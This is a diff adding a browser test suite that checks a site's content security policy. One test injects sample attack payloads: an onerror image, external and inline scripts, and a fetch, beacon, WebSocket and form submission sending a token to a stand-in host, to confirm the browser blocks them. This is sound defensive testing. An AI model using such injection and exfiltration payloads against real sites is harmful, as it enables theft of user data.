@@ -1,0 +1,86 @@
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { Browser, Page } from 'playwright-core';
+import { openBrowser, visit } from '@moontower/testkit/browser';
+
+const ROUTES = ['/', '/civic-pulse', '/pork-tracker', '/pork-tracker?tab=categories', '/status', '/methods', '/corrections', '/accessibility', '/privacy', '/developers', '/analytics', '/no-such-page'];
+const base = () => inject('baseUrl');
+let browser: Browser;
+beforeAll(async () => { browser = await openBrowser(); });
+afterAll(() => browser.close());
+
+/** What the browser refused on a page, by directive and what it was. */
+async function watchRefusals(page: Page): Promise<string[]> {
+  const refused: string[] = [];
+  await page.exposeFunction('tellRefusal', (text: string) => { refused.push(text); });
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber, sample }) => {
+      Reflect.apply(Reflect.get(globalThis, 'tellRefusal'), undefined, [`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sourceFile ?? ''}:${lineNumber} ${sample}`]);
+    });
+  });
+  return refused;
+}
+
+describe('the content security policy', () => {
+  it('WEB-04 names no inline script, no eval and no star, and every screen lives with it', async () => {
+    const { page, context } = await visit(browser);
+    const refused = await watchRefusals(page);
+    for (const path of ROUTES) {
+      const answer = await page.goto(`${base()}${path}`);
+      const policy = answer?.headers()['content-security-policy'] ?? '';
+      expect(policy).toMatch(/default-src 'none'/);
+      expect(policy.split(';').filter((part) => /^(script|style|object|base)-/.test(part)).join(';')).not.toMatch(/unsafe-inline|unsafe-eval|\*|script-src[^;]* https?:/);
+      await page.locator('main h1').first().waitFor();
+      await page.locator('footer, [data-atlas] canvas').first().waitFor({ state: 'attached' });
+    }
+    await page.goto(`${base()}/`);
+    await page.keyboard.press('Control+k');
+    await page.getByRole('dialog').waitFor();
+    await page.keyboard.press('Escape');
+    expect(refused).toEqual([]);
+    await context.close();
+  });
+
+  it('gives each answer a nonce of its own', async () => {
+    const nonces = await Promise.all([1, 2].map(async () => {
+      const answer = await fetch(`${base()}/`);
+      const said = /'nonce-([\w-]{20,})'/.exec(answer.headers.get('content-security-policy') ?? '')?.[1];
+      expect(await answer.text()).toContain(`property="csp-nonce" nonce="${said}"`);
+      return said;
+    }));
+    expect(new Set(nonces).size).toBe(2);
+  });
+
+  it('WEB-05 stops what an injected script would do: run, call home, load a picture, send a form, open a socket', async () => {
+    const { page, context } = await visit(browser);
+    const refused = await watchRefusals(page);
+    await page.goto(`${base()}/methods`);
+    await page.locator('main h1').first().waitFor();
+    const ran = await page.evaluate(async () => {
+      const place = document.createElement('div');
+      document.body.append(place);
+      place.innerHTML = '<img src="https://elsewhere.example/a.png" onerror="globalThis.ran = 1"><style>body { color: red }</style>';
+      for (const [source, text] of [['https://elsewhere.example/a.js', ''], ['', 'globalThis.ran = 2']] as const) {
+        const script = document.createElement('script');
+        if (source === '') script.textContent = text; else script.src = source;
+        document.body.append(script);
+      }
+      const fails = async (act: () => unknown) => { try { await act(); return false; } catch { return true; } };
+      // The evaluation that DevTools asks for may use eval whatever the policy says; what it has started later may not.
+      const evaluated = await new Promise((resolve) => { setTimeout(() => { void fails(() => Reflect.construct(Function, ['globalThis.ran = 3'])()).then(resolve); }, 0); });
+      const fetched = await fails(() => fetch('https://elsewhere.example/?token=x'));
+      navigator.sendBeacon('https://elsewhere.example/?token=x');
+      await fails(() => new WebSocket('wss://elsewhere.example/'));
+      const form = document.createElement('form');
+      form.action = 'https://elsewhere.example/';
+      document.body.append(form);
+      form.submit();
+      await new Promise((resolve) => { setTimeout(resolve, 300); });
+      return { ran: Reflect.get(globalThis, 'ran'), evaluated, fetched };
+    });
+    expect(ran).toEqual({ ran: undefined, evaluated: true, fetched: true });
+    const directives = new Set(refused.map((line) => line.split(' ')[1]));
+    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'style-src-elem', 'img-src', 'connect-src', 'form-action']) expect([...directives]).toContain(directive);
+    expect(page.url()).toBe(`${base()}/methods`);
+    await context.close();
+  });
+});
